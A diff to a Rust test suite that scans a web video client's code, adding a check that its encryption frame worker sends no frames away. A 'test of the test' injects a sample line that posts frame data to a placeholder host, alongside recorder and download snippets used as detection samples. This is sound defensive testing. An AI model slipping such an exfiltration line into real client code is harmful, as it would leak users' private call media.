@@ -7,7 +7,7 @@ mod common;
 
 use std::path::Path;
 
-use common::audit::{scan_client, scan_server};
+use common::audit::{scan_client, scan_frame_worker, scan_server};
 
 fn read_tree(dir: &Path, exts: &[&str], out: &mut Vec<(String, String)>) {
     for entry in std::fs::read_dir(dir).unwrap() {
@@ -37,6 +37,31 @@ fn the_browser_client_cannot_record_capture_or_download_media() {
     assert!(files.len() >= 10, "the client was not found");
     let found = scan_client(&files);
     assert!(found.is_empty(), "recording APIs in the client: {found:?}");
+}
+
+/// End-to-end encryption hands every frame to a worker: it may only seal
+/// or open it and give it back to the browser.
+#[test]
+fn the_frame_worker_sends_frames_nowhere() {
+    let worker = std::fs::read_to_string(root().join("web/js/e2ee-worker.js")).unwrap();
+    assert!(
+        worker.contains("onrtctransform"),
+        "the frame worker was not found"
+    );
+    let found = scan_frame_worker(&worker);
+    assert!(
+        found.is_empty(),
+        "the frame worker could send frames away: {found:?}"
+    );
+    // A test of the test.
+    let evil =
+        format!("{worker}\nfetch('https://x', {{ body: frame.data }}); postMessage(frame.data);");
+    assert_eq!(
+        scan_frame_worker(&evil).len(),
+        2,
+        "{:?}",
+        scan_frame_worker(&evil)
+    );
 }
 
 #[test]
@@ -72,6 +97,12 @@ fn the_scans_catch_a_recorder() {
         "const r = new MediaRecorder(stream); a.download = 'session.webm'; URL.createObjectURL(blob);".to_string(),
     )];
     assert_eq!(scan_client(&client).len(), 3);
+    // Encoded transforms anywhere but the encryption module are caught.
+    let transform = vec![(
+        "web/js/gallery.js".to_string(),
+        "new RTCRtpScriptTransform(worker)".to_string(),
+    )];
+    assert_eq!(scan_client(&transform).len(), 1);
     let server = vec![
         (
             "http.rs".to_string(),
